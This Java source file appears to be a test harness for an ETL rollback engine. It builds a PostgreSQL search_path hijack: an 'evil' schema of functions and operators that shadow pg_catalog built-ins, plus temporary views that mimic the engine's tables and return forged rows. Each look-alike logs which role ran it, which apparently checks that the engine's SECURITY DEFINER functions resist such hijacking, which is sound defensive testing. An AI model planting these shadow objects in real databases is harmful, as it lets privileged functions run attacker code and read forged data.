package org.etlrollback;

import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.TreeSet;

/**
 * A search_path attack on the engine's SECURITY DEFINER functions: a schema {@code evil} of functions, operators
 * and an aggregate that shadow pg_catalog's, and in each attacked session temporary views named like the engine's
 * tables and the capture's transition tables, with a search_path that puts {@code pg_temp} and {@code evil} before
 * {@code pg_catalog}. Every look-alike records that it ran, and as whom, in {@code evil.calls}; the numbers of
 * those records come from the sequence {@code evil.hits}, which no rollback takes back, so that even a call whose
 * record was rolled back with its statement leaves a trace.
 *
 * <p>{@link #plant} runs once, as the attacker, who needs CREATE on the database; {@link #lure} sets up a
 * session (the attacker's or another role's); {@link #probe} proves that the look-alikes are live there.
 */
public final class SearchPathAttack {

    /** The search_path of an attacked session. */
    public static final String SEARCH_PATH = "pg_temp, evil, pg_catalog, public";

    /** What each look-alike records when it runs, in sorted order: one entry per look-alike. */
    public static final List<String> LOOK_ALIKES;

    /** Relations the capture and the engine name, each shadowed by a temporary view in an attacked session. */
    private static final List<String> RELATIONS = List.of("new_rows", "old_rows", "migration", "statement",
            "tracked_table", "tracked_column", "checkpoint", "changes", "migrations", "change_seq");

    /** A function that shadows one of pg_catalog's: its signature, its result type and what it returns. */
    private record Shadow(String signature, String returns, String result, String probe) {
        String label() {
            return signature;
        }
    }

    private static final List<Shadow> FUNCTIONS = List.of(
            new Shadow("nextval(regclass)", "bigint", "pg_catalog.nextval($1)", "nextval('evil.counter'::regclass)"),
            new Shadow("nextval(text)", "bigint", "pg_catalog.nextval($1::pg_catalog.regclass)",
                    "nextval('evil.counter'::text)"),
            new Shadow("currval(regclass)", "bigint", "pg_catalog.currval($1)", "currval('evil.counter'::regclass)"),
            new Shadow("setval(regclass, bigint)", "bigint", "pg_catalog.setval($1, $2)",
                    "setval('evil.counter'::regclass, 5::bigint)"),
            new Shadow("current_setting(text)", "text", "pg_catalog.current_setting($1)",
                    "current_setting('search_path'::text)"),
            new Shadow("current_setting(text, boolean)", "text", "pg_catalog.current_setting($1, $2)",
                    "current_setting('search_path'::text, true)"),
            new Shadow("set_config(text, text, boolean)", "text", "pg_catalog.set_config($1, $2, $3)",
                    "set_config('evil.x'::text, 'y'::text, true)"),
            new Shadow("txid_current()", "bigint", "pg_catalog.txid_current()", "txid_current()"),
            new Shadow("clock_timestamp()", "timestamptz", "pg_catalog.clock_timestamp()", "clock_timestamp()"),
            new Shadow("now()", "timestamptz", "pg_catalog.now()", "now()"),
            new Shadow("row_number()", "bigint", "1::bigint", "row_number()"),
            new Shadow("length(text)", "integer", "pg_catalog.length($1)", "length('x'::text)"),
            new Shadow("left(text, integer)", "text", "pg_catalog.left($1, $2)", "left('xy'::text, 1)"),
            new Shadow("lower(text)", "text", "pg_catalog.lower($1)", "lower('X'::text)"),
            new Shadow("replace(text, text, text)", "text", "pg_catalog.replace($1, $2, $3)",
                    "replace('x'::text, 'x'::text, 'y'::text)"),
            new Shadow("quote_literal(text)", "text", "pg_catalog.quote_literal($1)", "quote_literal('x'::text)"),
            new Shadow("quote_ident(text)", "text", "pg_catalog.quote_ident($1)", "quote_ident('x'::text)"),
            new Shadow("format(text)", "text", "pg_catalog.format($1)", "format('x'::text)"),
            new Shadow("format(text, text)", "text", "pg_catalog.format($1, $2)", "format('%s'::text, 'x'::text)"),
            new Shadow("format(text, text, text)", "text", "pg_catalog.format($1, $2, $3)",
                    "format('%s%s'::text, 'x'::text, 'y'::text)"),
            new Shadow("format(text, integer)", "text", "pg_catalog.format($1, $2)", "format('%s'::text, 1)"),
            // fits a call of track() better than pg_catalog's format(text, VARIADIC "any"), even after pg_catalog
            new Shadow("format(text, text, text, regclass, text, text)", "text",
                    "pg_catalog.format($1, $2, $3, $4, $5, $6)",
                    "format('%s'::text, 'a'::text, 'b'::text, 'evil.calls'::regclass, 'c'::text, 'd'::text)"),
            new Shadow("hashtext(text)", "integer", "pg_catalog.hashtext($1)", "hashtext('x'::text)"),
            new Shadow("pg_advisory_xact_lock_shared(integer, integer)", "void",
                    "pg_catalog.pg_advisory_xact_lock_shared($1, $2)", "pg_advisory_xact_lock_shared(1, 2)"),
            new Shadow("pg_advisory_xact_lock(bigint)", "void", "pg_catalog.pg_advisory_xact_lock($1)",
                    "pg_advisory_xact_lock(3::bigint)"),
            new Shadow("to_regclass(text)", "regclass", "pg_catalog.to_regclass($1)",
                    "to_regclass('evil.calls'::text)"),
            new Shadow("has_function_privilege(text, text)", "boolean", "pg_catalog.has_function_privilege($1, $2)",
                    "has_function_privilege('pg_catalog.now()'::text, 'EXECUTE'::text)"),
            new Shadow("has_table_privilege(regclass, text)", "boolean", "pg_catalog.has_table_privilege($1, $2)",
                    "has_table_privilege('evil.calls'::regclass, 'SELECT'::text)"),
            new Shadow("array_position(text[], text)", "integer", "pg_catalog.array_position($1, $2)",
                    "array_position(array['x']::text[], 'x'::text)"),
            new Shadow("generate_series(bigint, bigint)", "setof bigint", "pg_catalog.generate_series($1, $2)",
                    "(select max(g) from generate_series(1::bigint, 2::bigint) g)"),
            new Shadow("jsonb_build_object(text, integer)", "jsonb", "pg_catalog.jsonb_build_object($1, $2)",
                    "jsonb_build_object('x'::text, 1)"),
            new Shadow("to_jsonb(integer)", "jsonb", "pg_catalog.to_jsonb($1)", "to_jsonb(1)"));

    /** An operator that shadows one of pg_catalog's: its implementing function and its symbol. */
    private record ShadowOperator(String function, String left, String symbol, String right, String returns,
                                  String probe) {
        String label() {
            return left + " " + symbol + " " + right;
        }
    }

    private static final List<ShadowOperator> OPERATORS = List.of(
            new ShadowOperator("texteq", "text", "=", "text", "boolean", "'a'::text = 'a'::text"),
            new ShadowOperator("textne", "text", "<>", "text", "boolean", "'a'::text <> 'b'::text"),
            new ShadowOperator("textcat", "text", "||", "text", "text", "'a'::text || 'b'::text"),
            new ShadowOperator("int8eq", "bigint", "=", "bigint", "boolean", "2::bigint = 2::bigint"),
            new ShadowOperator("int84eq", "bigint", "=", "integer", "boolean", "2::bigint = 2"),
            new ShadowOperator("int84gt", "bigint", ">", "integer", "boolean", "2::bigint > 1"),
            new ShadowOperator("int8pl", "bigint", "+", "bigint", "bigint", "1::bigint + 1::bigint"),
            new ShadowOperator("int8mi", "bigint", "-", "bigint", "bigint", "3::bigint - 1::bigint"),
            new ShadowOperator("int4eq", "integer", "=", "integer", "boolean", "1 = 1"),
            new ShadowOperator("int4gt", "integer", ">", "integer", "boolean", "2 > 1"),
            new ShadowOperator("int4pl", "integer", "+", "integer", "integer", "1 + 1"),
            new ShadowOperator("oideq", "oid", "=", "oid", "boolean", "1::oid = 1::oid"));

    static {
        TreeSet<String> labels = new TreeSet<>();
        FUNCTIONS.forEach(f -> labels.add(f.label()));
        OPERATORS.forEach(o -> labels.add(o.label()));
        labels.add("string_agg(text, text)");
        RELATIONS.forEach(r -> labels.add("pg_temp." + r));
        LOOK_ALIKES = List.copyOf(labels);
    }

    private SearchPathAttack() {
    }

    /** Creates the schema evil and its look-alikes, usable by every role; run as the attacker. */
    public static void plant(Connection attacker) throws SQLException {
        List<String> ddl = new ArrayList<>();
        ddl.add("create schema evil");
        ddl.add("create sequence evil.hits");
        ddl.add("create sequence evil.counter");
        ddl.add("create table evil.calls (n bigint primary key default pg_catalog.nextval('evil.hits'::pg_catalog.regclass),"
                + " fn text, as_user text)");
        for (Shadow f : FUNCTIONS) {
            ddl.add("create function evil." + f.signature() + " returns " + f.returns() + " language sql as $$"
                    + record(f.label()) + " select " + f.result() + " $$");
        }
        for (ShadowOperator o : OPERATORS) {
            ddl.add("create function evil." + o.function() + "(" + o.left() + ", " + o.right() + ") returns "
                    + o.returns() + " language sql as $$" + record(o.label())
                    + " select $1 operator(pg_catalog." + o.symbol() + ") $2 $$");
            ddl.add("create operator evil." + o.symbol() + " (leftarg = " + o.left() + ", rightarg = " + o.right()
                    + ", function = evil." + o.function() + ")");
        }
        ddl.add("create function evil.string_agg_step(text, text, text) returns text language sql as $$"
                + record("string_agg(text, text)") + " select pg_catalog.concat($1, $3, $2) $$");
        ddl.add("create aggregate evil.string_agg(text, text) (sfunc = evil.string_agg_step, stype = text)");
        // the rows every look-alike relation gives, after recording that it was read
        ddl.add("""
                create function evil.forged(p_label text) returns table (id integer, part integer, name text)
                language plpgsql as $$
                begin
                    insert into evil.calls (fn, as_user) values (p_label, current_user);
                    return query select 666, 1, 'forged'::text;
                end
                $$""");
        ddl.add("grant usage on schema evil to public");
        ddl.add("grant select, insert on evil.calls to public");
        ddl.add("grant select, usage, update on sequence evil.hits, evil.counter to public");
        exec(attacker, ddl);
    }

    /**
     * Makes a session an attacked one: temporary views named like the engine's relations, and the search_path
     * {@value #SEARCH_PATH}.
     */
    public static void lure(Connection session) throws SQLException {
        List<String> ddl = new ArrayList<>();
        for (String relation : RELATIONS) {
            ddl.add("create temporary view " + relation + " as select * from evil.forged('pg_temp." + relation + "')");
        }
        ddl.add("set search_path = " + SEARCH_PATH);
        exec(session, ddl);
    }

    /**
     * Uses every look-alike from the session, as a careless statement would, and returns what they recorded
     * (sorted, without repeats), each with the role it ran as: it proves that the look-alikes are live there.
     */
    public static List<String> probe(Connection session) throws SQLException {
        long mark = mark(session);
        List<String> uses = new ArrayList<>();
        FUNCTIONS.forEach(f -> uses.add(f.probe()));
        OPERATORS.forEach(o -> uses.add(o.probe()));
        uses.add("(select string_agg(x, ','::text) from (values ('a'::text)) v(x))");
        for (String relation : RELATIONS) {
            uses.add("(select max(id) from " + relation + ")");
        }
        // currval needs a nextval first in the session
        exec(session, List.of("select pg_catalog.nextval('evil.counter'::pg_catalog.regclass)",
                "select " + String.join(", ", uses)));
        return new ArrayList<>(new TreeSet<>(callsSince(session, mark)));
    }

    /** The number of look-alike calls so far, rolled back or not: give it to {@link #callsSince}. */
    public static long mark(Connection session) throws SQLException {
        try (Statement s = session.createStatement();
             ResultSet rs = s.executeQuery("select case when is_called then last_value else 0 end from evil.hits")) {
            rs.next();
            return rs.getLong(1);
        }
    }

    /**
     * The look-alike calls since the mark, in order, as {@code "fn as role"}; a call whose record was rolled
     * back appears as {@code "? (record rolled back)"}.
     */
    public static List<String> callsSince(Connection session, long mark) throws SQLException {
        long now = mark(session);
        List<String> calls = new ArrayList<>();
        try (PreparedStatement ps = session.prepareStatement(
                "select fn, as_user from evil.calls where n > ? order by n")) {
            ps.setLong(1, mark);
            try (ResultSet rs = ps.executeQuery()) {
                while (rs.next()) {
                    calls.add(rs.getString(1) + " as " + rs.getString(2));
                }
            }
        }
        for (long lost = now - mark - calls.size(); lost > 0; lost--) {
            calls.add("? (record rolled back)");
        }
        return calls;
    }

    private static String record(String label) {
        return " insert into evil.calls (fn, as_user) values ('" + label + "', current_user);";
    }

    private static void exec(Connection connection, List<String> statements) throws SQLException {
        try (Statement s = connection.createStatement()) {
            for (String sql : statements) {
                s.execute(sql);
            }
        }
    }
}
